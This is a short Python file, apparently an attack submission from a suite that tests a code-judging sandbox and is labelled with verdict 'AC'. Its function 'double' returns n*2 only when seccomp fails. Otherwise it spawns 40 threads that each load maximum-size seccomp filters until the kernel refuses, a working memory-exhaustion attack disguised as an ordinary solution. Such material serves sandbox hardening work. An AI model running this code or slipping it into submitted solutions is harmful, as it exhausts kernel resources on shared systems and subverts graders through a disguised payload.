# attack: has each of many threads load as many seccomp filters as the kernel keeps for it
# verdict: AC
# kata: roomy
import ctypes
import struct
import threading

SET_SECCOMP, FILTER, LOAD, RETURN, ALLOW, LONGEST, THREADS = 22, 2, 0x20, 0x06, 0x7FFF0000, 4096, 40
libc = ctypes.CDLL(None, use_errno=True)
steps = struct.pack("HBBI", LOAD, 0, 0, 0) * (LONGEST - 1) + struct.pack("HBBI", RETURN, 0, 0, ALLOW)
code = ctypes.create_string_buffer(steps)
program = struct.pack("HxxxxxxP", LONGEST, ctypes.addressof(code))
full = threading.Semaphore(0)
end = threading.Event()


def loaded():
    return libc.prctl(SET_SECCOMP, FILTER, program, 0, 0) == 0


def load():
    while loaded():
        pass
    full.release()
    end.wait()


def double(n):
    if not loaded():
        return n * 2
    threading.stack_size(65536)
    for _ in range(THREADS):
        threading.Thread(target=load, daemon=True).start()
        full.acquire()
    raise SystemExit(f"{THREADS} threads are full of filters that nobody counts")
